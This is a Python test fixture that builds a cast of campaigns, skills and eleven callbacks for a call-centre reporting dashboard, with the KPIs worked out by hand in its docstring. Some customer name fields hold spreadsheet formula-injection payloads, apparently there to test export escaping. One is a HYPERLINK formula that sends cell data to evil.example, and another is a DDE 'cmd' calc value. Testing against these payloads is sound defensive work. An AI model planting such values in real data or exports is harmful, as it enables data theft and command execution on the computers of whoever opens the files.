"""The small cast of the dashboard and selector tests, with every KPI worked out by hand.

The clock is frozen at Friday 2026-11-20 09:00 UTC (10:00 in Warsaw, TIME_ZONE and both
skills' zone), so "today" is 2026-11-20 and the last 30 days are 2026-10-22..2026-11-20.
The views judge "not due yet" by the database's own clock, which time-machine cannot
move: every callback here is long past due for the database, so one not dialed (and not
withdrawn) counts as a broken promise. On time = first dial within 5 minutes (the
default GlobalRules.on_time_minutes).

name             campaign skill   agent     status      promised  1st dial contact tries on time
today_completed  Main     Sales             completed   20 08:00  08:02    08:03   1     1
today_expired    Main     Sales   jkowalski expired     20 07:00                   0     0
today_in_dialer  Premium  Support           in_dialer   20 08:30  08:31            1     1
late_fell_back   Main     Support asmith    completed   18 09:00  09:30    09:31   2     0
on_time_failed   Main     Sales   jkowalski failed      18 10:00  10:01            3     1
cancelled        Premium  Sales             cancelled   10 09:00                   0     NULL
on_time_personal Main     Sales   jkowalski completed   10 12:00  12:00    12:01   1     1
rescheduled      Main     Sales             rescheduled 10 13:00                   0     NULL
late_failed      Main     Support asmith    failed       5 09:00  10:00            1     0
before_range     Main     Sales             completed   Oct 21                     1     (out)
after_today      Main     Sales             scheduled   23 09:00                   0     (out)

Days of November 2026, times in UTC. Each was requested 24 h before its promise, except
on_time_personal (1 h before: contact after 61 min) and today_in_dialer (30 min before).
The IVR queued late_fell_back (personal) and today_completed (standard) to the skill,
on_time_personal to its agent.
"""

import datetime as dt
from dataclasses import dataclass

from callbacks import states
from callbacks.models import Callback, CallbackCampaign, EventKind, Outcome, Status
from reporting.selectors import ReportFilter
from scheduling.models import Skill
from tests.cast import load as load_cast

NOW = dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.UTC)
TODAY = dt.date(2026, 11, 20)
START = dt.date(2026, 10, 22)  # 30 days up to today
IN_RANGE = 9  # callbacks promised in the last 30 days
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@dataclass(frozen=True)
class Cast:
    main: CallbackCampaign
    premium: CallbackCampaign
    sales: Skill
    support: Skill
    callbacks: dict[str, Callback]

    def month(self, **filters) -> ReportFilter:
        return ReportFilter(start=START, end=TODAY, **filters)


def utc(text: str) -> dt.datetime:
    return dt.datetime.fromisoformat(text).replace(tzinfo=dt.UTC)


# name: campaign, skill, agent (id, name), status, promised, requested, first dial,
# contact, attempts, finished, customer (first, last)
ROWS = {
    "today_completed": ("main", "sales", ("", ""), Status.COMPLETED, "2026-11-20 08:00",
                        "2026-11-19 08:00", "2026-11-20 08:02", "2026-11-20 08:03", 1,
                        "2026-11-20 08:10", ("Piotr", "Wiśniewski")),
    "today_expired": ("main", "sales", ("jkowalski", "Jan Kowalski"), Status.EXPIRED,
                      "2026-11-20 07:00", "2026-11-19 07:00", None, None, 0,
                      "2026-11-20 08:00", ("Anna", "Nowak")),
    "today_in_dialer": ("premium", "support", ("", ""), Status.IN_DIALER, "2026-11-20 08:30",
                        "2026-11-20 08:00", "2026-11-20 08:31", None, 1, None,
                        ("Maria", "Wójcik")),
    "late_fell_back": ("main", "support", ("asmith", "Alice Smith"), Status.COMPLETED,
                       "2026-11-18 09:00", "2026-11-17 09:00", "2026-11-18 09:30",
                       "2026-11-18 09:31", 2, "2026-11-18 09:40", ("John", "Doe")),
    "on_time_failed": ("main", "sales", ("jkowalski", "Jan Kowalski"), Status.FAILED,
                       "2026-11-18 10:00", "2026-11-17 10:00", "2026-11-18 10:01", None, 3,
                       "2026-11-18 12:00", ("Ewa", "Zielińska")),
    "cancelled": ("premium", "sales", ("", ""), Status.CANCELLED, "2026-11-10 09:00",
                  "2026-11-09 09:00", None, None, 0, "2026-11-09 10:00",
                  ("+1+cmd|' /C calc'!A0", "-2+3")),
    "on_time_personal": ("main", "sales", ("jkowalski", "J. Kowalski"), Status.COMPLETED,
                         "2026-11-10 12:00", "2026-11-10 11:00", "2026-11-10 12:00",
                         "2026-11-10 12:01", 1, "2026-11-10 12:05", ("Adam", "Kamiński")),
    "rescheduled": ("main", "sales", ("", ""), Status.RESCHEDULED, "2026-11-10 13:00",
                    "2026-11-09 13:00", None, None, 0, "2026-11-10 08:00", ("Jan", "Nowak")),
    "late_failed": ("main", "support", ("asmith", "A. Smith"), Status.FAILED,
                    "2026-11-05 09:00", "2026-11-04 09:00", "2026-11-05 10:00", None, 1,
                    "2026-11-05 11:00", (FORMULA_NAME, "@SUM(A1:A9)")),
    "before_range": ("main", "sales", ("", ""), Status.COMPLETED, "2026-10-21 09:00",
                     "2026-10-20 09:00", "2026-10-21 09:00", "2026-10-21 09:01", 1,
                     "2026-10-21 09:05", ("Olga", "Nowak")),
    "after_today": ("main", "sales", ("", ""), Status.SCHEDULED, "2026-11-23 09:00",
                    "2026-11-19 09:00", None, None, 0, None, ("Kai", "Nowak")),
}  # fmt: skip
OUTCOMES = {
    "late_fell_back": Outcome.QUEUED_SKILL,
    "today_completed": Outcome.QUEUED_SKILL,
    "on_time_personal": Outcome.QUEUED_AGENT,
}


def build_cast() -> Cast:
    """The campaigns and skills of the tests' cast (tests/cast.py), and the callbacks above."""
    load_cast()
    places = {
        "main": CallbackCampaign.objects.get(name="Callback_Main"),
        "premium": CallbackCampaign.objects.get(name="Callback_Premium"),
        "sales": Skill.objects.get(name="Sales"),
        "support": Skill.objects.get(name="Support"),
    }
    made = Callback.objects.bulk_create(
        _callback(number, places, *row) for number, row in enumerate(ROWS.values(), start=1)
    )
    callbacks = dict(zip(ROWS, made, strict=True))
    for name, row in ROWS.items():
        # created_at is auto_now_add: bulk_create sets it to the frozen now.
        Callback.objects.filter(pk=callbacks[name].pk).update(created_at=utc(row[5]))
    for name, outcome in OUTCOMES.items():
        states.record_event(
            callbacks[name], EventKind.IVR_OUTCOME, actor="ivr", details={"outcome": outcome}
        )
    return Cast(callbacks=callbacks, **places)


def _callback(number, places, campaign, skill, agent, status, promised, _requested, dial,
              contact, attempts, finished, customer) -> Callback:  # fmt: skip
    return Callback(
        account_number=Callback.account_number_for(900 + number),
        phone_number=f"+48225{number:06d}",
        dial_number=f"0225{number:06d}",
        first_name=customer[0],
        last_name=customer[1],
        campaign=places[campaign],
        skill=places[skill],
        agent_id=agent[0],
        agent_name=agent[1],
        status=status,
        scheduled_at=utc(promised),
        first_dialed_at=dial and utc(dial),
        connected_at=contact and utc(contact),
        attempts=attempts,
        finished_at=finished and utc(finished),
    )
